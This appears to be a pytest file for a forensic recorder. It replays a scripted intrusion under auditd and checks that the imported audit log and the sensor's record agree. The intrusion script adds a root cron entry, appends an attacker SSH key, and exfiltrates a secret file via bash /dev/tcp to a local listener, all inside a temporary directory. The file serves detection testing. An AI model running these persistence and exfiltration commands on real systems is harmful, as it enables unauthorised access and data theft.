"""Real auditd and the real sensor watch the same intrusion; both pictures must agree.

Debian's auditd runs with a realistic rule set (execve, identity files, cron, ssh keys,
connect, writes under the scenario's directory; every rule limited to the scenario's
loginuid so the other engineers' processes cost nothing) while ``forensix record`` records
a scripted intrusion. The audit log is imported into a second store, and the same queries
over both stores must give the same processes (executable, argv, parent), files written
and connections for the scenario's own processes.

Where the two may differ, and why (so these are not compared):
* processes that never exec'd (a subshell, a fork before exec): auditd logs a process
  only when an audited syscall runs in it; the recorder logs every fork.
* the exec that ran before the "login" wrote the loginuid (``sh -c 'echo 4243 >
  /proc/self/loginuid && exec bash ...'``): the rules select the scenario's loginuid, so
  auditd never saw it; both pictures are compared on execs made with that loginuid.
* the parent of the scenario's first process (the recorder itself): not audited (its
  loginuid is not the scenario's).
* reads, and data-flow bytes: the rules audit writes only; auditd has no flow edges.
* the recorder's local address of a connection: auditd logs the peer only.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from forensix.imports import FORMATS, Host, Importer
from forensix.store.base import Reader
from forensix.store.embedded import open_reader, open_writer

sys.path.insert(0, str(Path(__file__).parent))
import auditd_daemon

pytestmark = pytest.mark.bpf

AUID = 4243
SESSION = """
cd {work}
mkdir -p {work}/cron.d {work}/home/.ssh
cp /usr/bin/id {work}/tool
chmod +x {work}/tool
{work}/tool > {work}/id.out
echo '* * * * * root {work}/tool' > {work}/cron.d/{tag}
echo 'ssh-ed25519 AAAAC3Nza attacker@{tag}' >> {work}/home/.ssh/authorized_keys
bash -c 'cat {work}/secret > /dev/tcp/127.0.0.1/{lport}'
mv {work}/id.out {work}/id.moved
rm {work}/id.moved
"""


def _rules(work: Path) -> list[list[str]]:
    a = ["-a", "always,exit", "-F", "arch=b64"]
    me = ["-F", f"auid={AUID}"]
    rules = [
        a + ["-S", "execve,execveat"] + me + ["-k", "exec"],
        a + ["-S", "connect"] + me + ["-k", "net"],
        a + ["-F", f"dir={work}", "-F", "perm=wa"] + me + ["-k", "scenario"],
    ]
    # identity files, cron, ssh keys: where they exist on this host (auditctl refuses a missing dir)
    for what, key in (("path=/etc/passwd", "identity"), ("path=/etc/shadow", "identity"),
                      ("dir=/etc/cron.d", "cron"), ("dir=/root/.ssh", "sshkeys")):
        if Path(what.split("=", 1)[1]).exists():
            rules.append(a + ["-F", what, "-F", "perm=wa"] + me + ["-k", key])
    return rules


@pytest.fixture(scope="module")
def pictures(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    why = auditd_daemon.available()
    if os.geteuid() != 0 or why:
        pytest.fail(f"needs root and auditd: {why}")  # bpf tests run as root in CI, never skipped
    work = tmp_path_factory.mktemp("import-audit")
    tag = "fx" + uuid.uuid4().hex[:8]
    (work / "secret").write_text("the secret\n" * 50)
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    lport = srv.getsockname()[1]
    got: list[bytes] = []

    def serve() -> None:
        conn, _ = srv.accept()
        with conn:
            while chunk := conn.recv(65536):
                got.append(chunk)

    threading.Thread(target=serve, daemon=True).start()
    (work / "session.sh").write_text(SESSION.format(work=work, tag=tag, lport=lport))
    login = f"echo {AUID} > /proc/self/loginuid && exec bash {work}/session.sh"
    with auditd_daemon.running(work, _rules(work)) as log:
        r = subprocess.run([sys.executable, "-c", "from forensix.cli.main import main; main()", "record",
                            "--quiet", "--no-rules", "--store", str(work / "bpf.duckdb"), "--", "sh", "-c", login],
                           capture_output=True, text=True, timeout=240, check=False)
    srv.close()
    assert r.returncode == 0, r.stderr
    assert b"the secret" in b"".join(got)
    w = open_writer(work / "audit.duckdb")
    imp = Importer(w, "auditd", FORMATS["auditd"].make, Host(socket.gethostname(), socket.gethostname()))
    res = imp.import_file(log)
    w.close()
    yield {"bpf": open_reader(work / "bpf.duckdb"), "audit": open_reader(work / "audit.duckdb"),
           "work": str(work), "lport": lport, "tag": tag, "result": res, "log": log}


def _scenario(r: Reader) -> set[int]:
    t = r.query("SELECT DISTINCT entity_id FROM processes WHERE user_audit_id = $a", {"a": AUID})
    return set(t.column("entity_id").to_pylist())


def _execs(r: Reader) -> set[tuple[str, tuple[str, ...], str | None]]:
    ents = _scenario(r)
    rows = r.query("""
        SELECT e.ts, e.process_entity_id AS eid, e.process_executable AS exe, e.process_args AS args,
               p.parent_entity_id AS parent
        FROM events e JOIN (SELECT DISTINCT entity_id, parent_entity_id FROM processes WHERE image_seq = 0) p
          ON p.entity_id = e.process_entity_id
        WHERE e.event_action = 'exec' AND coalesce(e.event_outcome, 'success') = 'success'
          AND e.user_audit_id = $a""", {"a": AUID}).to_pylist()
    # auditd's clock has milliseconds: a process's images (the write to loginuid by sh, then its
    # exec of bash) can share one; image_seq orders them
    images = r.query("SELECT entity_id, image_ts, executable FROM processes ORDER BY image_ts, image_seq").to_pylist()

    def exe_at(eid: int, ts: int) -> str | None:
        if eid not in ents:
            return None  # outside the scenario (the recorder that started it): not compared
        return next((i["executable"] for i in reversed(images) if i["entity_id"] == eid and i["image_ts"] <= ts), None)

    return {(x["exe"], tuple(x["args"] or ()), exe_at(x["parent"], x["ts"])) for x in rows if x["eid"] in ents}


_WRITES = """
    SELECT DISTINCT event_action, coalesce(file_path, '') AS path, coalesce(file_target_path, '') AS target
    FROM events WHERE process_entity_id IN ({ents}) AND starts_with(coalesce(file_path, ''), $w)
      AND (event_action IN ('rename', 'unlink', 'chmod', 'mkdir', 'truncate')
           OR (event_action = 'open' AND (coalesce(file_flags, 0) & 579) <> 0))
      AND coalesce(event_outcome, 'success') = 'success'
"""


def _writes(r: Reader, work: str) -> set[tuple[str, str, str]]:
    ents = ",".join(str(e) for e in _scenario(r)) or "0"
    return {tuple(x.values()) for x in r.query(_WRITES.format(ents=ents), {"w": work}).to_pylist()}  # type: ignore[misc]


def _connects(r: Reader) -> set[tuple[str, int]]:
    ents = ",".join(str(e) for e in _scenario(r)) or "0"
    rows = r.query(f"""SELECT destination_ip, destination_port FROM events WHERE event_action = 'connect'
                       AND process_entity_id IN ({ents}) AND network_transport IS DISTINCT FROM 'unix'""").to_pylist()
    return {(x["destination_ip"], x["destination_port"]) for x in rows}


def test_the_log_imports_cleanly(pictures: dict[str, Any]) -> None:
    res = pictures["result"]
    assert res.lines > 20 and res.skipped == 0, res.warnings
    mods = pictures["audit"].query("SELECT DISTINCT event_module FROM events").column("event_module").to_pylist()
    assert mods == ["auditd"]


def test_processes_agree(pictures: dict[str, Any]) -> None:
    bpf, audit = _execs(pictures["bpf"]), _execs(pictures["audit"])
    work = pictures["work"]
    assert ("/usr/bin/cp", ("cp", "/usr/bin/id", f"{work}/tool"), "/usr/bin/bash") in audit
    assert (f"{work}/tool", (f"{work}/tool",), "/usr/bin/bash") in audit
    assert bpf == audit, f"only bpf: {bpf - audit}\nonly audit: {audit - bpf}"


def test_files_written_agree(pictures: dict[str, Any]) -> None:
    work = pictures["work"]
    bpf, audit = _writes(pictures["bpf"], work), _writes(pictures["audit"], work)
    tag = pictures["tag"]
    assert ("open", f"{work}/cron.d/{tag}", "") in audit
    assert ("open", f"{work}/home/.ssh/authorized_keys", "") in audit
    assert ("rename", f"{work}/id.out", f"{work}/id.moved") in audit
    assert ("unlink", f"{work}/id.moved", "") in audit
    assert bpf == audit, f"only bpf: {bpf - audit}\nonly audit: {audit - bpf}"


def test_connections_agree(pictures: dict[str, Any]) -> None:
    bpf, audit = _connects(pictures["bpf"]), _connects(pictures["audit"])
    assert ("127.0.0.1", pictures["lport"]) in audit
    assert bpf == audit


def test_sessions_and_report_on_the_import(pictures: dict[str, Any]) -> None:
    """The unchanged analyses read the imported picture: a login session with the scenario in it."""
    from forensix.analysis.report import build_report
    from forensix.analysis.sessions import attribute, sessions
    from forensix.analysis.targets import Target

    r = pictures["audit"]
    att = attribute(r)
    leaders = {att.leader_of[e] for e, p in att.procs.items() if p.auid == AUID}
    assert len(leaders) == 1
    row = next(x for x in sessions(r).to_pylist() if x["leader_entity_id"] in leaders)
    assert row["kind"] == "login" and row["user_id"] == AUID
    rep = build_report(r, Target("file", path=f"{pictures['work']}/cron.d/{pictures['tag']}"))
    assert rep.actor is not None and rep.session is not None
    assert any("data flow" in n for n in rep.notes), rep.notes


def test_ids_alert_is_linked_to_the_process_and_starts_a_report(pictures: dict[str, Any], tmp_path: Path) -> None:
    """A network IDS alert on the scenario's exfiltration: linked by 4-tuple and time to the
    recorded connect, and ``report --alert`` starts from that process."""
    import datetime
    import json
    import shutil

    from click.testing import CliRunner

    from forensix.cli.main import cli
    from forensix.store.embedded import store_files

    bpf = pictures["bpf"]
    ents = ",".join(str(e) for e in _scenario(bpf))
    conn = bpf.query(f"""SELECT ts, process_entity_id, source_port FROM events WHERE event_action = 'connect'
                         AND destination_port = $p AND process_entity_id IN ({ents})""",
                     {"p": pictures["lport"]}).to_pylist()[0]
    when = datetime.datetime.fromtimestamp((conn["ts"] + 10**9) / 1e9, datetime.UTC)
    eve = tmp_path / "eve.json"
    eve.write_text(json.dumps({
        "timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.%f+0000"), "flow_id": 1, "event_type": "alert",
        "src_ip": "127.0.0.1", "src_port": conn["source_port"], "dest_ip": "127.0.0.1",
        "dest_port": pictures["lport"], "proto": "TCP",
        "alert": {"action": "allowed", "gid": 1, "signature_id": 9000001, "rev": 1,
                  "signature": "FX exfiltration of a secret", "category": "Data Exfiltration", "severity": 1},
    }) + "\n")
    src = Path(pictures["work"]) / "bpf.duckdb"
    store = tmp_path / "ids.duckdb"
    for f in store_files(src):
        dst = store.parent / f.relative_to(src.parent).as_posix().replace("bpf.duckdb", "ids.duckdb")
        dst.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(f, dst)
    run = CliRunner().invoke
    r = run(cli, ["import", "suricata", str(eve), "--store", str(store), "--quiet"])
    assert r.exit_code == 0 and "1 alerts" in r.stdout, r.output
    from forensix.store.embedded import open_reader as _open

    with _open(store) as s:  # type: ignore[attr-defined]
        al = s.query("SELECT alert_id, process_entity_id, rule_level FROM alerts WHERE source = 'suricata'").to_pylist()
    assert len(al) == 1 and al[0]["process_entity_id"] == conn["process_entity_id"] and al[0]["rule_level"] == "high"
    r = run(cli, ["report", "--alert", al[0]["alert_id"], "--store", str(store)])
    assert r.exit_code == 0, r.output
    assert f"{conn['process_entity_id']:016x}" in r.stdout and "/dev/tcp" in r.stdout
